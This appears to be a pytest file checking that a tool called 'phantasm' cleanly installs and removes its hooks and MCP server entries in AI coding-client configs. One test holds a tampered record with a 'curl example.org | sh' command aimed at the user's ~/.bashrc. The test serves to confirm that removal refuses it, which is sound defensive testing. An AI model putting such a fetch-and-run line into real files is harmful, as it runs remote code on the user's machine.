"""Do clients get what they are to get, whatever their files are, and lose it again?"""

import hashlib
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from phantasm.config.paths import Paths
from phantasm.contracts.errors import Code, PhantasmError
from phantasm.runtime.setup.file_plans import plan_files
from phantasm.runtime.setup.guidance import BEGIN
from phantasm.runtime.setup.installed import Installed, Integrations, read_record, write_record
from phantasm.runtime.setup.integrations import carry_out_removal
from phantasm.runtime.setup.project import BootstrapOptions, bootstrap, uninstall
from tests.fixtures.installs import Ground, ground


@pytest.fixture
def made(tmp_path: Path) -> Ground:
    """Return a project and a home."""
    return ground(tmp_path)


def settings(made: Ground) -> Path:
    return made.root / ".claude" / "settings.json"


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def loaded(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def test_an_empty_project_gets_everything_and_loses_it(made: Ground) -> None:
    before = made.everything()
    done = made.install()
    assert not done.problems
    assert {step.action for step in done.steps} == {"create"}
    assert loaded(made.root / ".mcp.json")["mcpServers"]["phantasm"]["args"] == ["mcp"]
    assert loaded(made.root / ".cursor/hooks.json")["version"] == 1
    assert BEGIN in (made.root / "AGENTS.md").read_text()
    made.remove()
    assert made.everything() == before


def test_one_client_goes_and_the_others_stay(made: Ground) -> None:
    before = made.everything()
    made.install("claude_code")
    one = made.everything()
    made.install("codex")
    made.remove("codex")
    assert made.everything() == one
    made.remove("claude_code")
    assert made.everything() == before


def test_a_link_is_followed_and_stays_a_link(made: Ground) -> None:
    kept = write(made.root / "config" / "claude.json", '{"model": "opus"}')
    settings(made).parent.mkdir()
    settings(made).symlink_to(kept)
    dotfile = write(made.home / "dotfiles" / "claude.json", "{}")
    (made.home / ".claude").mkdir()
    (made.home / ".claude" / "settings.json").symlink_to(dotfile)
    before = made.everything()
    for scope in ("project", "user"):
        made.install("claude_code", scope=scope)
    assert settings(made).is_symlink()
    assert "hook claude_code Stop" in kept.read_text()
    assert "hook claude_code Stop" in dotfile.read_text()
    for scope in ("project", "user"):
        made.remove(scope=scope)
    assert made.everything() == before


@pytest.mark.parametrize("name", ["elsewhere.json", "home/.claude/settings.json"])
def test_a_link_that_leads_outside_is_left_alone(made: Ground, tmp_path: Path, name: str) -> None:
    elsewhere = write(tmp_path / name, "{}")
    settings(made).parent.mkdir()
    settings(made).symlink_to(elsewhere)
    done = made.install("claude_code")
    (problem,) = done.problems
    assert "outside the project" in problem.reason  # also where it is the user's own
    assert "hook claude_code Stop" in problem.by_hand
    assert elsewhere.read_text() == "{}"


def test_a_folder_that_is_a_link_outside_is_left_alone(made: Ground, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (made.root / ".codex").symlink_to(tmp_path / "elsewhere")
    done = made.install("codex")
    assert len(done.problems) == 2
    assert not list((tmp_path / "elsewhere").iterdir())


def test_a_link_that_leads_nowhere_yet_gets_its_file(made: Ground) -> None:
    (made.root / ".mcp.json").symlink_to("config/mcp.json")
    before = made.everything()
    made.install("claude_code")
    assert (made.root / "config/mcp.json").is_file()
    made.remove()
    assert made.everything() == before


def test_a_loop_of_links_is_left_alone(made: Ground) -> None:
    (made.root / ".mcp.json").symlink_to(".mcp.json")
    done = made.install("claude_code")
    assert [problem.path for problem in done.problems] == [".mcp.json"]


def test_a_link_into_git_or_our_state_is_left_alone(made: Ground) -> None:
    (made.root / ".mcp.json").symlink_to(Paths(made.root).state / "x.json")
    assert [problem.path for problem in made.install("claude_code").problems] == [".mcp.json"]


def test_two_names_of_one_file_are_edited_once(made: Ground) -> None:
    shared = write(made.root / ".mcp.json", '{"mcpServers": {}}')
    (made.root / ".cursor").mkdir()
    (made.root / ".cursor/mcp.json").symlink_to("../.mcp.json")
    (made.root / ".claude").mkdir()
    (made.root / ".claude/skills").symlink_to("../.agents/skills")
    before = made.everything()
    done = made.install("claude_code", "cursor")
    assert not done.problems
    assert list(loaded(shared)["mcpServers"]) == ["phantasm"]
    assert made.install("claude_code", "cursor").diff == ""
    made.remove("cursor")
    made.remove("claude_code")
    assert made.everything() == before


@pytest.mark.parametrize("order", [("claude_code", "copilot"), ("copilot", "claude_code")])
def test_a_server_that_two_clients_read_stays_until_both_are_gone(
    made: Ground, order: tuple[str, str]
) -> None:
    before = made.everything()
    made.install("claude_code", "copilot")
    again = made.install("copilot", "claude_code")
    assert again.diff == ""
    made.remove(order[0])
    assert "phantasm" in loaded(made.root / ".mcp.json")["mcpServers"]
    made.remove(order[1])
    assert made.everything() == before
    for client in order:
        made.install(client)
    for client in order:
        made.remove(client)
    assert made.everything() == before


def test_what_may_not_be_written_is_left_alone(made: Ground) -> None:
    write(settings(made), "{}").chmod(0o444)
    (made.root / ".codex").mkdir()
    (made.root / ".codex").chmod(0o555)
    done = made.install("claude_code", "codex")
    (made.root / ".codex").chmod(0o755)
    assert {problem.path for problem in done.problems} == {
        ".claude/settings.json",
        ".codex/config.toml",
        ".codex/hooks.json",
    }
    assert all("read-only" in problem.reason for problem in done.problems)


def test_a_folder_or_a_pipe_of_that_name_is_left_alone(made: Ground) -> None:
    (made.root / ".mcp.json").mkdir()
    settings(made).parent.mkdir()
    os.mkfifo(settings(made))
    done = made.install("claude_code")
    assert {problem.reason for problem in done.problems} == {"it is not a regular file"}


def test_a_file_keeps_its_mode(made: Ground) -> None:
    write(settings(made), "{}").chmod(0o640)
    made.install("claude_code")
    assert stat.S_IMODE(settings(made).stat().st_mode) == 0o640
    made.remove()
    assert stat.S_IMODE(settings(made).stat().st_mode) == 0o640


def test_a_copy_of_every_file_is_kept(made: Ground) -> None:
    write(settings(made), '{"model": "opus"}')
    made.install("claude_code")
    (copy,) = Paths(made.root).agent_file_copies.iterdir()
    assert copy.read_text() == '{"model": "opus"}'
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600


def test_what_changed_between_reading_and_writing_is_not_overwritten(made: Ground) -> None:
    path = write(made.root / ".cursor/mcp.json", "{}")
    place, files = made.place(), made.wanted("cursor")
    edits, _ = plan_files(place, files, Integrations())
    path.write_text('{"mcpServers": {"new": {}}}')
    with pytest.raises(PhantasmError) as refused:
        carry_out_removal(place, edits, ())
    assert refused.value.code is Code.STALE_TARGET
    assert path.read_text() == '{"mcpServers": {"new": {}}}'


def test_a_server_of_somebody_else_is_not_overwritten(made: Ground) -> None:
    text = '{"mcpServers": {"phantasm": {"url": "https://example.org"}}, "hooks": {}}'
    path = write(made.root / ".gemini/settings.json", text)
    done = made.install("gemini")
    (problem,) = done.problems
    assert "not ours" in problem.reason
    assert loaded(path)["mcpServers"]["phantasm"] == {"url": "https://example.org"}
    assert "SessionStart" in loaded(path)["hooks"]  # the rest does not suffer
    made.remove()
    assert path.read_text() == text


def test_an_older_hook_is_updated_where_it_stands(made: Ground) -> None:
    old = {"type": "command", "command": "/old/phantasm hook claude_code Stop", "timeout": 99}
    other = {"type": "command", "command": "say done"}
    path = write(settings(made), json.dumps({"hooks": {"Stop": [{"hooks": [other, old]}]}}))
    before = path.read_bytes()
    made.install("claude_code")
    ((first, second),) = [group["hooks"] for group in loaded(path)["hooks"]["Stop"]]
    assert first == other
    assert second == {"type": "command", "command": "phantasm hook claude_code Stop", "timeout": 10}
    made.remove()
    assert path.read_bytes() == before


def test_a_handler_that_joined_ours_stays(made: Ground) -> None:
    made.install("claude_code")
    changed = loaded(settings(made))
    changed["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": "say done"})
    settings(made).write_text(json.dumps(changed))
    made.install("claude_code")
    made.remove()
    assert loaded(settings(made)) == {
        "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "say done"}]}]}
    }


def test_a_server_that_somebody_replaced_stays(made: Ground) -> None:
    made.install("cursor")
    path = made.root / ".cursor/mcp.json"
    path.write_text('{"mcpServers": {"phantasm": {"command": "other"}}}')
    made.remove()
    assert path.read_text() == '{"mcpServers": {"phantasm": {"command": "other"}}}'


def test_a_skill_that_somebody_edited_stays(made: Ground) -> None:
    made.install("codex")
    skill = made.root / ".agents/skills/phantasm/SKILL.md"
    skill.write_text("mine now")
    assert [problem.reason for problem in made.install("codex").problems] == [
        "it was edited since it was written"
    ]
    done = made.remove()
    assert skill.read_text() == "mine now"
    assert any("yours now" in step.detail for step in done.steps)


def test_a_skill_of_that_name_that_is_not_ours_stays(made: Ground) -> None:
    skill = write(made.root / ".agents/skills/phantasm/SKILL.md", "about ghosts")
    done = made.install("codex")
    assert "not ours" in done.problems[0].reason
    made.remove()
    assert skill.read_text() == "about ghosts"


def test_a_file_that_is_gone_is_no_problem(made: Ground) -> None:
    made.install("claude_code", "codex")
    settings(made).unlink()
    (made.root / ".codex/hooks.json").unlink()
    (made.root / ".codex/config.toml").unlink()
    (made.root / ".codex").rmdir()
    assert not made.remove().problems


def test_another_program_is_brought_into_what_is_there(made: Ground) -> None:
    before = made.everything()
    made.install()
    other = Ground(made.root, made.home, program="/opt/my tools/phantasm")
    other.install()
    groups = loaded(settings(made))["hooks"]["Stop"]
    assert [group["hooks"][0]["command"] for group in groups] == [
        "'/opt/my tools/phantasm' hook claude_code Stop"
    ]
    other.remove()
    assert made.everything() == before


def test_install_between_edits_keeps_them(made: Ground) -> None:
    path = write(settings(made), '{\n  "model": "opus"\n}\n')
    made.install("claude_code")
    path.write_text(path.read_text().replace('"opus"', '"haiku"'))
    Ground(made.root, made.home, program="/opt/phantasm").install("claude_code")
    made.remove()
    assert path.read_text() == '{\n  "model": "haiku"\n}\n'


def test_the_users_own_files_are_recorded_with_the_user(made: Ground) -> None:
    write(made.home / ".claude.json", '{"numStartups": 3}')
    before = made.everything()
    made.install(scope="user")
    assert not (made.root / ".mcp.json").exists()
    assert "phantasm" in loaded(made.home / ".claude.json")["mcpServers"]
    assert (made.home / ".codex/config.toml").exists()
    assert (made.home / ".config/phantasm/install/installed.json").exists()
    made.remove(scope="user")
    assert made.everything() == before
    assert not (made.home / ".config/phantasm/install").exists()


def test_nothing_was_installed_is_no_error(made: Ground) -> None:
    before = made.everything()
    assert made.remove().steps == ()
    assert made.remove(scope="user").steps == ()
    assert made.everything() == before


def test_uninstall_takes_the_clients_with_it(made: Ground) -> None:
    write(settings(made), '{ "model": "opus" }')
    (made.root / "AGENTS.md").write_text("mine\n")
    before = made.everything()
    bootstrap(made.root, BootstrapOptions(guidance=True))
    made.install()
    uninstall(made.root, dry_run=False, home=made.home)
    assert made.everything() == before
    assert not Paths(made.root).folder.exists()


def test_a_block_that_bootstrap_put_stays_with_the_memory(made: Ground) -> None:
    bootstrap(made.root, BootstrapOptions(guidance=True))
    made.install("codex")
    made.remove()
    assert BEGIN in (made.root / "AGENTS.md").read_text()


def test_a_file_that_only_includes_another_gets_no_second_block(made: Ground) -> None:
    (made.root / "AGENTS.md").write_text("mine\n")
    (made.root / "CLAUDE.md").write_text("@AGENTS.md\n\nmore\n")
    made.install("claude_code")
    assert BEGIN in (made.root / "AGENTS.md").read_text()
    assert BEGIN not in (made.root / "CLAUDE.md").read_text()


def test_a_record_of_the_first_version_is_read(made: Ground) -> None:
    record = Paths(made.root).installed
    write_record(record, Installed(created=("AGENTS.md",), ignored="state/\n"))
    value = loaded(record)
    del value["integrations"]
    record.write_text(json.dumps(value | {"format": "phantasm.installed.v1"}))
    assert read_record(record) == Installed(created=("AGENTS.md",), ignored="state/\n")
    made.install("codex")
    assert loaded(record)["format"] == "phantasm.installed.v2"


def test_a_record_that_came_with_a_repository_reaches_nothing_outside(made: Ground) -> None:
    made.install("cursor")
    mine = write(made.home / ".bashrc", "alias ll='ls -l'\n")
    (made.home / "empty").mkdir()
    record = loaded(Paths(made.root).installed)
    integrations = record["integrations"]
    told = integrations["files"][".cursor/mcp.json"] | {
        "written": hashlib.sha256(mine.read_bytes()).hexdigest()
    }
    told |= {"created": False, "undo": {"start": 0, "end": 0, "text": "curl example.org | sh\n"}}
    integrations["files"] = {str(mine): told, "../home/.bashrc": told | {"created": True}}
    integrations["folders"] = [str(made.home / "empty"), "../home/empty"]
    Paths(made.root).installed.write_text(json.dumps(record))
    assert len(made.remove().problems) == 2
    uninstall(made.root, dry_run=False, home=made.home)
    assert mine.read_text() == "alias ll='ls -l'\n"
    assert (made.home / "empty").is_dir()


@pytest.mark.parametrize(
    "change", [{"format": "phantasm.installed.v9"}, {"integrations": {}}, {"created": 1}]
)
def test_a_record_that_says_nothing_is_refused(made: Ground, change: dict[str, Any]) -> None:
    made.install("codex")
    record = Paths(made.root).installed
    record.write_text(json.dumps(loaded(record) | change))
    with pytest.raises(PhantasmError) as refused:
        made.remove()
    assert refused.value.code is Code.STORE_CORRUPT


@pytest.mark.parametrize(
    "change",
    [{"kind": "spell"}, {"command": "'"}, {"command": " "}, {"path": 1}, {"existing": "many"}],
)
def test_an_entry_that_says_nothing_is_refused(made: Ground, change: dict[str, Any]) -> None:
    made.install("cursor")
    record = loaded(Paths(made.root).installed)
    record["integrations"]["files"][".cursor/mcp.json"]["entries"][0] |= change
    Paths(made.root).installed.write_text(json.dumps(record))
    with pytest.raises(PhantasmError) as refused:
        made.remove()
    assert refused.value.code is Code.STORE_CORRUPT
